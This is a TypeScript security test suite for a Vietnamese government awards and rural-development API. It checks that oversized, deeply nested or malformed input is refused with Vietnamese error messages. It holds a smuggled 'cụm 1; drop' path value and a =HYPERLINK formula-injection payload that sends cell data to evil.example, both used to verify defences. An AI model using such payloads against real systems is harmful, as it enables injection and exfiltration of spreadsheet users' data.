import ExcelJS from 'exceljs';
import type { Response } from 'superagent';
import type { EventStore } from '@ntm/event-store';
import { EVENT_STORE } from '@ntm/application';
import { openWhilePeriodOpen, submissionEvidence } from '../support/dossier-driver';
import { startTestApp, type TestApp } from '../support/harness';
import { catchUpProjections } from '../reports/support';
import { binary, readTable } from '../support/xlsx';

// Hostile input over HTTP (issue 9, items 6, 7 and 10): every refusal is a 4xx with a stable code and a Vietnamese
// message, comes quickly, and writes nothing (the event store's head position does not move).

const PROVINCE = '06';
const EMULATION = `/api/v1/emulation/provinces/${PROVINCE}`;
const DOSSIER = '/api/v1/dossiers/5d0c7e1a-0000-4000-8000-000000000001';
const NOMINATION = '/api/v1/emulation/nominations/5d0c7e1a-0000-4000-8000-000000000002';
const HUGE = 'x'.repeat(100_000);
const commune = { provinceCode: '06', districtCode: '058', communeCode: '01843', name: 'xã Nông Thượng' };
const nominee = { kind: 'commune', ...commune };
const openDossier = { commune, level: 'ntm', procedureVersion: '2021-2025', year: 2025 };
const nomination = {
  provinceCode: PROVINCE,
  movementId: 'ntm-2021-2025',
  awardTypeId: 'bang-khen-chu-tich-tinh',
  year: 2025,
  nominee,
  achievement: { kind: 'movement-result', period: '2021-2025', text: 'Hoàn thành xây dựng NTM' },
};
const priorAward = {
  awardId: 'tt-ldxs-2024',
  recipient: nominee,
  awardTypeId: 'tap-the-lao-dong-xuat-sac',
  year: 2024,
  decisionNumber: '1800/QĐ-UBND',
  decidedOn: '2024-12-10',
};
const awardType = {
  id: 'bang-khen-thu-nghiem',
  name: 'Bằng khen thử nghiệm',
  level: 'province',
  nomineeKinds: ['commune'],
  proposers: ['province_officer'],
  decision: { role: 'chairman', authority: 'Chủ tịch UBND tỉnh' },
  review: {
    quorum: { num: 2, den: 3, strict: false },
    approval: { num: 1, den: 2, strict: true },
    approvalBase: 'present',
  },
  rules: [{ kind: 'holds-recognition', level: 'ntm' }],
};
const without = <T extends object>(o: T, key: keyof T) => {
  const copy = { ...o };
  delete copy[key];
  return copy;
};

/** Words of class-validator's English messages that must never reach a user. */
const ENGLISH = /\b(must|should|than|characters|values|each|property|nested|or equal|elements|following)\b/i;

type Method = 'post' | 'put' | 'get';
interface Case {
  readonly name: string;
  readonly method: Method;
  readonly path: string;
  readonly body?: object;
  /** The field the refusal must name. */
  readonly field: string;
  readonly token: 'commune' | 'chairman' | 'secretary' | 'admin';
}

describe('Hostile input over HTTP', () => {
  let t: TestApp;
  let store: EventStore;
  let tokens: Record<Case['token'], string>;
  let head: string;

  const send = (method: Method, path: string, token: Case['token'], body?: object | string) => {
    const req = t.http[method](path).set('authorization', `Bearer ${tokens[token]}`);
    return body === undefined ? req : req.send(body as object);
  };

  /** The refusal: its status and code, a Vietnamese message without English, and nothing written. */
  const expectRefused = async (res: Response, status: number, code: string) => {
    expect([res.status, res.body.code]).toEqual([status, code]);
    expect(res.body.message).toMatch(/[À-ỹ]/);
    expect(res.body.message).not.toMatch(ENGLISH);
    for (const v of res.body.violations ?? []) expect(v.message).not.toMatch(ENGLISH);
    expect(await store.committedPosition()).toBe(head);
  };

  beforeAll(async () => {
    t = await startTestApp('security_hostile', { worker: false });
    store = t.app.get<EventStore>(EVENT_STORE);
    const at = { provinceCode: PROVINCE };
    tokens = {
      commune: await t.token('commune_officer', { ...at, districtCode: '058', communeCode: '01843' }),
      chairman: await t.token('chairman', at),
      secretary: await t.token('emulation_secretary', at),
      admin: await t.token('admin', {}),
    };
    // Something in the store, so that "nothing written" compares against a real head.
    const opened = await openWhilePeriodOpen(t, '2021-2025', () =>
      send('post', '/api/v1/dossiers', 'commune', openDossier),
    );
    expect(opened.status).toBe(201);
    // The newest committed write, seen by readers or not: another test run's open transaction hides nothing here.
    head = await store.committedPosition();
    expect(head >= opened.body.position).toBe(true);
  });
  afterAll(() => t.close());

  it('answers a body over the limit with 413 and a code', async () => {
    const res = await t.http
      .post('/api/v1/dossiers')
      .set('authorization', `Bearer ${tokens.commune}`)
      .set('content-type', 'application/json')
      .send(JSON.stringify({ ...openDossier, padding: 'x'.repeat(3 * 1024 * 1024) }));
    await expectRefused(res, 413, 'PAYLOAD_TOO_LARGE');
  });

  it('answers an unknown charset with 415', async () => {
    const res = await t.http
      .post('/api/v1/dossiers')
      .set('authorization', `Bearer ${tokens.commune}`)
      .set('content-type', 'application/json; charset=klingon')
      .send(JSON.stringify(openDossier));
    await expectRefused(res, 415, 'UNSUPPORTED_CHARSET');
  });

  it('answers malformed JSON with 400 INVALID_JSON', async () => {
    const res = await t.http
      .post('/api/v1/dossiers')
      .set('authorization', `Bearer ${tokens.commune}`)
      .set('content-type', 'application/json')
      .send('{"commune": {"provinceCode": "06",');
    await expectRefused(res, 400, 'INVALID_JSON');
    // Where it broke, as the sender finds it: cut short after the comma.
    expect(res.body.message).toBe('Dữ liệu gửi lên không phải JSON hợp lệ: lỗi ở dòng 1, cột 35');
  });

  it('refuses JSON nested 20,000 levels with 400 before validation, quickly', async () => {
    for (const nested of [
      `{"commune":${'['.repeat(20_000)}${']'.repeat(20_000)}}`,
      `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`,
    ]) {
      const started = Date.now();
      const res = await t.http
        .post('/api/v1/dossiers')
        .set('authorization', `Bearer ${tokens.commune}`)
        .set('content-type', 'application/json')
        .send(nested);
      expect(Date.now() - started).toBeLessThan(2000);
      await expectRefused(res, 400, 'BODY_TOO_DEEP');
    }
  });

  it('refuses an object of 100,000 keys and an array of 100,000 elements before validation walks them', async () => {
    const keys = Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [`k${i}`, 1]));
    await expectRefused(
      await send('post', '/api/v1/dossiers', 'commune', { ...openDossier, commune: { ...commune, ...keys } }),
      400,
      'BODY_TOO_MANY_FIELDS',
    );
    await expectRefused(
      await send('post', `${DOSSIER}/verification`, 'commune', {
        findings: Array.from({ length: 100_000 }, () => [{}]),
      }),
      400,
      'BODY_ARRAY_TOO_LONG',
    );
  });

  it('caps validation errors: a 400 KB body full of mistakes gets a short answer, quickly', async () => {
    const started = Date.now();
    // A council member's 400 KB nested array where a list of 19 findings belongs: the list's own bound refuses it
    // as a whole, before its 1,500 elements are copied and validated one by one.
    const findings = await send('post', `${DOSSIER}/appraisal/conclusion`, 'commune', {
      counts: { members: 5, present: 5, for: 5, against: 0 },
      findings: Array.from({ length: 1_500 }, () => [[[{ criterion: 'x', met: 'y', note: [1, 2, 3] }]]]),
    });
    await expectRefused(findings, 400, 'VALIDATION_FAILED');
    expect(findings.body.violations).toEqual([
      {
        field: 'findings',
        code: 'INVALID_ARRAY_MAX_SIZE',
        message: "Trường 'findings' có tối đa 50 phần tử",
      },
    ]);
    // Within every bound, every element wrong (a field no unit has, the first one's code again): the province's
    // file lists 20 of its 1,999 problems by line and counts the others.
    const units = await send('put', `/api/v1/admin/units/${PROVINCE}`, 'admin', {
      name: 'Tỉnh Bắc Kạn',
      districts: [],
      communes: Array.from({ length: 1_000 }, () => ({ code: '!', name: 7, extra: true })),
    });
    await expectRefused(units, 400, 'UNITS_FILE_INVALID');
    expect(units.body.violations).toHaveLength(21);
    expect(units.body.violations[20].message).toBe(
      'Còn 1979 lỗi khác: sửa các lỗi trên rồi nạp lại để xem tiếp',
    );
    expect(units.body.message).toContain('có 1999 lỗi');
    expect(units.text.length).toBeLessThan(10_000);
    // Generous: the machine running the tests is shared; before, one such body froze the server for seconds.
    expect(Date.now() - started).toBeLessThan(15_000);
  });

  it.each<[string, Method, string, object, string, Case['token']]>([
    [
      'a dossier without commune',
      'post',
      '/api/v1/dossiers',
      without(openDossier, 'commune'),
      'commune',
      'commune',
    ],
    [
      'a dossier whose commune is a list',
      'post',
      '/api/v1/dossiers',
      { ...openDossier, commune: [commune] },
      'commune',
      'commune',
    ],
    [
      'a dossier whose commune is null',
      'post',
      '/api/v1/dossiers',
      { ...openDossier, commune: null },
      'commune',
      'commune',
    ],
    ['a conclusion without counts', 'post', `${DOSSIER}/appraisal/conclusion`, {}, 'counts', 'commune'],
    [
      'a nomination without nominee',
      'post',
      '/api/v1/emulation/nominations',
      without(nomination, 'nominee'),
      'nominee',
      'chairman',
    ],
    [
      'a nomination without achievement',
      'post',
      '/api/v1/emulation/nominations',
      without(nomination, 'achievement'),
      'achievement',
      'chairman',
    ],
    [
      'an eligibility check without nominee',
      'post',
      '/api/v1/emulation/nominations/eligibility',
      without(nomination, 'nominee'),
      'nominee',
      'chairman',
    ],
    [
      'a prior award without recipient',
      'post',
      `${EMULATION}/prior-awards`,
      without(priorAward, 'recipient'),
      'recipient',
      'secretary',
    ],
    [
      'a prior award whose recipient is a string',
      'post',
      `${EMULATION}/prior-awards`,
      { ...priorAward, recipient: 'xã' },
      'recipient',
      'secretary',
    ],
    [
      'an award type without decision',
      'post',
      `${EMULATION}/award-types`,
      without(awardType, 'decision'),
      'decision',
      'chairman',
    ],
    [
      'an award type without review',
      'post',
      `${EMULATION}/award-types`,
      without(awardType, 'review'),
      'review',
      'chairman',
    ],
    [
      'an award type whose quorum is missing',
      'post',
      `${EMULATION}/award-types`,
      { ...awardType, review: without(awardType.review, 'quorum') },
      'review.quorum',
      'chairman',
    ],
    [
      'a cluster whose member is a list',
      'post',
      `${EMULATION}/clusters`,
      { clusterId: 'cum-1', name: 'Cụm 1', kind: 'cum', fromYear: 2021, members: [[nominee]] },
      'members',
      'chairman',
    ],
    [
      'a self-assessment whose criterion is null',
      'post',
      `${DOSSIER}/self-assessment`,
      { criteria: [null] },
      'criteria',
      'commune',
    ],
  ])('refuses %s with 400 naming the field', async (_name, method, path, body, field, token) => {
    const res = await send(method, path, token, body);
    await expectRefused(res, 400, 'VALIDATION_FAILED');
    expect(res.body.violations.map((v: { field: string }) => v.field)).toContain(field);
  });

  it('answers ?minPosition=zzz with 400 at once, not a 5 s wait and 503', async () => {
    for (const path of [
      '/api/v1/board?minPosition=zzz',
      '/api/v1/reports/standings?minPosition=zzz',
      `${EMULATION}/award-types?minPosition=zzz`,
      `${EMULATION}/awards?minPosition=${'9'.repeat(100_00)}`,
    ]) {
      const started = Date.now();
      const res = await send('get', path, 'admin');
      expect(Date.now() - started).toBeLessThan(1000);
      await expectRefused(res, 400, 'VALIDATION_FAILED');
      expect(res.body.violations[0].field).toBe('minPosition');
    }
  });

  const huge: [string, Method, string, object, string, Case['token']][] = [
    [
      'commune name',
      'post',
      '/api/v1/dossiers',
      { ...openDossier, commune: { ...commune, name: HUGE } },
      'commune.name',
      'commune',
    ],
    [
      'commune code',
      'post',
      '/api/v1/dossiers',
      { ...openDossier, commune: { ...commune, communeCode: HUGE } },
      'commune.communeCode',
      'commune',
    ],
    [
      'posting place',
      'post',
      `${DOSSIER}/public-posting`,
      { where: [HUGE], from: '2025-06-01T08:00:00+07:00' },
      'where',
      'commune',
    ],
    [
      'comment author',
      'post',
      `${DOSSIER}/public-posting/comments`,
      { author: HUGE, content: 'Ý kiến' },
      'author',
      'commune',
    ],
    [
      'criterion value',
      'post',
      `${DOSSIER}/self-assessment`,
      { criteria: [{ criterion: 1, met: true, value: HUGE, evidence: [] }] },
      'criteria.0.value',
      'commune',
    ],
    [
      'smart villages',
      'post',
      `${DOSSIER}/self-assessment`,
      {
        criteria: [],
        kieuMau: {
          incomePerCapita: 1,
          nangCaoIncomeStandard: 1,
          smartVillages: [HUGE],
          outstandingFields: [],
          evidence: [],
        },
      },
      'kieuMau.smartVillages',
      'commune',
    ],
    [
      'survey question',
      'post',
      `${DOSSIER}/survey-result`,
      {
        households: 10,
        formsCollected: 9,
        satisfied: 9,
        perQuestion: [{ question: HUGE, satisfied: 1, answered: 1 }],
      },
      'perQuestion.0.question',
      'commune',
    ],
    [
      'return reason',
      'post',
      `${DOSSIER}/return`,
      { reasons: [{ text: HUGE }] },
      'reasons.0.text',
      'commune',
    ],
    [
      'return document',
      'post',
      `${DOSSIER}/return`,
      { reasons: [{ text: 'Thiếu', document: HUGE }] },
      'reasons.0.document',
      'commune',
    ],
    [
      'resubmission changes',
      'post',
      `${DOSSIER}/resubmission`,
      { ...submissionEvidence(), changes: HUGE },
      'changes',
      'commune',
    ],
    [
      'appraisal posting url',
      'post',
      `${DOSSIER}/appraisal/posting`,
      { url: HUGE, from: '2025-06-01T08:00:00+07:00' },
      'url',
      'commune',
    ],
    [
      'council vote note',
      'post',
      `${DOSSIER}/appraisal/votes`,
      { vote: 'approve', note: HUGE },
      'note',
      'commune',
    ],
    [
      'decision number',
      'post',
      `${DOSSIER}/decision`,
      { decisionNumber: HUGE, decidedOn: '2025-12-15' },
      'decisionNumber',
      'commune',
    ],
    [
      'refusal reason',
      'post',
      `${DOSSIER}/refusal`,
      { decidedOn: '2025-12-15', reasons: [HUGE] },
      'reasons',
      'commune',
    ],
    [
      'announcement place',
      'post',
      `${DOSSIER}/announcement`,
      { announcedOn: '2025-12-20', where: HUGE },
      'where',
      'commune',
    ],
    ['withdrawal reason', 'post', `${DOSSIER}/withdrawal`, { reason: HUGE }, 'reason', 'commune'],
    ['revocation reason', 'post', `${DOSSIER}/revocation`, { reason: HUGE }, 'reason', 'commune'],
    [
      'revocation decision number',
      'post',
      `${DOSSIER}/revocation/decision`,
      { decisionNumber: HUGE, decidedOn: '2026-01-01' },
      'decisionNumber',
      'commune',
    ],
    ['asOf', 'get', `${DOSSIER}?asOf=${'2'.repeat(10_000)}`, {}, 'asOf', 'commune'],
    [
      'board member id',
      'post',
      `${EMULATION}/board`,
      { members: [{ id: HUGE, name: 'Thư', role: 'secretary' }], appointedOn: '2025-01-10' },
      'members.0.id',
      'chairman',
    ],
    [
      'movement scope',
      'post',
      `${EMULATION}/movements`,
      {
        id: 'm-1',
        name: 'Phong trào',
        fromYear: 2021,
        toYear: 2025,
        scope: HUGE,
        launchedBy: 'UBND',
        launchedOn: '2022-05-18',
      },
      'scope',
      'chairman',
    ],
    [
      'quota amendment reason',
      'post',
      `${EMULATION}/movements/m-1/quotas`,
      { quotas: [], reason: HUGE },
      'reason',
      'chairman',
    ],
    [
      'quota amendment basis number',
      'post',
      `${EMULATION}/movements/m-1/quotas`,
      { quotas: [], basis: { number: HUGE, issuedOn: '2025-10-02' } },
      'basis.number',
      'chairman',
    ],
    [
      'cluster member name',
      'post',
      `${EMULATION}/clusters`,
      {
        clusterId: 'cum-1',
        name: 'Cụm 1',
        kind: 'cum',
        fromYear: 2021,
        members: [{ ...nominee, name: HUGE }],
      },
      'members.0.name',
      'chairman',
    ],
    [
      'score member key',
      'post',
      `${EMULATION}/clusters/cum-1/scores`,
      { year: 2025, reviewedOn: '2025-12-01', entries: [{ memberKey: HUGE, score: 1 }] },
      'entries.0.memberKey',
      'chairman',
    ],
    [
      'score leader',
      'post',
      `${EMULATION}/clusters/cum-1/scores`,
      { year: 2025, reviewedOn: '2025-12-01', entries: [], leader: HUGE },
      'leader',
      'chairman',
    ],
    [
      'decision authority',
      'post',
      `${EMULATION}/award-types`,
      { ...awardType, decision: { role: 'chairman', authority: HUGE } },
      'decision.authority',
      'chairman',
    ],
    [
      'rule title',
      'post',
      `${EMULATION}/award-types`,
      {
        ...awardType,
        rules: [
          {
            kind: 'consecutive-titles',
            awardTypeId: 'a',
            title: HUGE,
            years: 2,
            endingWith: 'previous-year',
          },
        ],
      },
      'rules.0.title',
      'chairman',
    ],
    [
      'achievement text',
      'post',
      '/api/v1/emulation/nominations',
      { ...nomination, achievement: { ...nomination.achievement, text: HUGE } },
      'achievement.text',
      'chairman',
    ],
    [
      'nominee province',
      'post',
      '/api/v1/emulation/nominations/eligibility',
      { ...nomination, nominee: { ...nominee, provinceCode: HUGE } },
      'nominee.provinceCode',
      'chairman',
    ],
    ['nomination return reason', 'post', `${NOMINATION}/return`, { reasons: [HUGE] }, 'reasons', 'chairman'],
    [
      'supplement note',
      'post',
      `${NOMINATION}/supplement`,
      { documents: [], note: HUGE },
      'note',
      'chairman',
    ],
    [
      'members present',
      'post',
      `${NOMINATION}/review`,
      { present: [HUGE], meetingOn: '2025-11-25' },
      'present',
      'chairman',
    ],
    [
      'review vote note',
      'post',
      `${NOMINATION}/review/votes`,
      { ballot: 'approve', note: HUGE },
      'note',
      'chairman',
    ],
    [
      'escalation reason',
      'post',
      `${NOMINATION}/escalation`,
      { awardTypeId: 'bang-khen-thu-tuong', reason: HUGE },
      'reason',
      'chairman',
    ],
    ['nomination withdrawal', 'post', `${NOMINATION}/withdrawal`, { reason: HUGE }, 'reason', 'chairman'],
    [
      'award decision number',
      'post',
      `${EMULATION}/decisions`,
      {
        number: HUGE,
        decidedOn: '2025-12-20',
        awardTypeId: 'bang-khen',
        nominationIds: ['5d0c7e1a-0000-4000-8000-000000000002'],
      },
      'number',
      'chairman',
    ],
    [
      'award signer',
      'post',
      `${EMULATION}/decisions`,
      {
        number: '1/QĐ',
        decidedOn: '2025-12-20',
        awardTypeId: 'bang-khen',
        nominationIds: ['5d0c7e1a-0000-4000-8000-000000000002'],
        signerName: HUGE,
      },
      'signerName',
      'chairman',
    ],
    [
      'prior award decision number',
      'post',
      `${EMULATION}/prior-awards`,
      { ...priorAward, decisionNumber: HUGE },
      'decisionNumber',
      'secretary',
    ],
    ['flag text', 'post', `${EMULATION}/awards/a-1/flags`, { text: HUGE }, 'text', 'chairman'],
    [
      'flag clearance note',
      'post',
      `${EMULATION}/awards/a-1/flags/clearance`,
      { note: HUGE },
      'note',
      'chairman',
    ],
    [
      'award revocation decision number',
      'post',
      `${EMULATION}/awards/a-1/revocation`,
      { reason: 'false-records', text: 'Sai', decisionNumber: HUGE, decidedOn: '2026-04-01' },
      'decisionNumber',
      'chairman',
    ],
    ['plan title', 'put', `/api/v1/plans/${PROVINCE}`, { title: HUGE, targets: [] }, 'title', 'admin'],
  ];

  it.each(huge)(
    'refuses a 100,000-character %s with 400 naming the field',
    async (_n, method, path, body, field, token) => {
      const res = await send(method, path, token, method === 'get' ? undefined : body);
      await expectRefused(res, 400, 'VALIDATION_FAILED');
      expect(res.body.violations.map((v: { field: string }) => v.field)).toContain(field);
    },
  );

  it("refuses a province file's 100,000-character unit name with 400 naming its line and field", async () => {
    const res = await send('put', `/api/v1/admin/units/${PROVINCE}`, 'admin', {
      name: 'Tỉnh',
      districts: [{ code: '058', name: HUGE }],
      communes: [],
    });
    await expectRefused(res, 400, 'UNIT_CHANGE_INVALID');
    expect(res.body.violations).toEqual([
      expect.objectContaining({
        field: 'districts[0].name',
        message: 'Dòng 1, trường districts[0].name: cần tên, tối đa 200 ký tự',
      }),
    ]);
  });

  it('refuses a path parameter that is no identifier, and hostile command headers', async () => {
    await expectRefused(
      await send('post', `${EMULATION}/awards/${'a'.repeat(300)}/flags`, 'chairman', { text: 'Sai' }),
      400,
      'INVALID_PATH_PARAMETER',
    );
    await expectRefused(
      await send('post', `${EMULATION}/clusters/${encodeURIComponent('cụm 1; drop')}/scores`, 'chairman', {
        year: 2025,
        reviewedOn: '2025-12-01',
        entries: [],
      }),
      400,
      'INVALID_PATH_PARAMETER',
    );
    await expectRefused(
      await send('get', '/api/v1/dossiers/not-a-uuid', 'commune'),
      400,
      'INVALID_PATH_PARAMETER',
    );
    await expectRefused(
      await t.http
        .post(`${DOSSIER}/withdrawal`)
        .set('authorization', `Bearer ${tokens.commune}`)
        .set('x-correlation-id', 'x'.repeat(5000))
        .send({}),
      400,
      'INVALID_CORRELATION_ID',
    );
    await expectRefused(
      await t.http
        .post(`${DOSSIER}/withdrawal`)
        .set('authorization', `Bearer ${tokens.commune}`)
        .set('if-match', '9'.repeat(400))
        .send({}),
      400,
      'INVALID_IF_MATCH',
    );
  });

  it('writes every message in Vietnamese, naming the field and its bound', async () => {
    const res = await send('post', '/api/v1/dossiers', 'commune', {
      commune: { provinceCode: 6, communeCode: '01843', name: 'x'.repeat(201) },
      level: 'sieu-cap',
      procedureVersion: '2021-2025',
      year: 1999,
      extra: 1,
    });
    await expectRefused(res, 400, 'VALIDATION_FAILED');
    expect(res.body.violations.map((v: { message: string }) => v.message).sort()).toEqual([
      "Trường 'commune.name' dài tối đa 200 ký tự",
      "Trường 'commune.provinceCode' phải là chuỗi ký tự",
      "Trường 'extra' không phải là trường được phép",
      "Trường 'level' phải là một trong các giá trị: ntm, nang-cao, kieu-mau, hien-dai",
      "Trường 'year' phải lớn hơn hoặc bằng 2021",
    ]);
    const list = await send('post', `${DOSSIER}/public-posting`, 'commune', {
      where: [1, 'Nhà văn hóa'],
      from: '2025-06-01T08:00:00+07:00',
    });
    expect(list.body.violations.map((v: { message: string }) => v.message)).toEqual([
      "Trường 'where' có phần tử không hợp lệ: mỗi phần tử phải là chuỗi ký tự",
    ]);
  });

  it('documents the limits in the OpenAPI document', async () => {
    const { schemas } = (await t.http.get('/api/docs-json')).body.components;
    expect(schemas.CommuneRefDto.properties.name).toMatchObject({ maxLength: 200, minLength: 1 });
    expect(schemas.PublicPostingDto.properties.where).toMatchObject({ maxItems: 100, minItems: 1 });
    expect(schemas.ReturnReasonDto.properties.text).toMatchObject({ maxLength: 2000 });
    expect(schemas.ClusterDto.properties.members).toMatchObject({ maxItems: 500 });
    expect(schemas.DecisionDto.properties.decisionNumber).toMatchObject({ maxLength: 100 });
    expect(schemas.SurveyResultDto.properties.households).toMatchObject({ minimum: 1, maximum: 10_000_000 });
    expect(schemas.OpenDossierUnderSetDto.required).toContain('commune');
  });

  it('exports a commune named like a formula as inert text (CSV) and as text, not a formula (XLSX)', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
    const put = await send('put', `/api/v1/admin/units/${PROVINCE}`, 'admin', {
      name: 'Tỉnh Bắc Kạn',
      districts: [{ code: '058', name: '+Thành phố Bắc Kạn' }],
      communes: [{ code: '01843', districtCode: '058', name: formula }],
    });
    expect(put.status).toBe(200);
    await catchUpProjections(t.app, t.config.schema, put.body.position); // no worker in this file
    const csv = await send('get', `/api/v1/reports/standings.csv?province=${PROVINCE}`, 'admin');
    expect(csv.status).toBe(200);
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")"`);
    expect(csv.text).toContain("'+Thành phố Bắc Kạn");
    expect(csv.text).not.toMatch(/(^|,)"?[=+\-@]/m);

    const xlsx = await send('get', `/api/v1/reports/standings.xlsx?province=${PROVINCE}`, 'admin')
      .buffer(true)
      .parse(binary);
    const { sheet, headerRow } = await readTable(xlsx.body);
    const cells = sheet.getRow(headerRow + 1);
    const name = [1, 2, 3, 4, 5].map((i) => cells.getCell(i)).find((c) => c.value === formula);
    expect(name?.type).toBe(ExcelJS.ValueType.String);
    expect(name?.formula).toBeUndefined();
  });
});
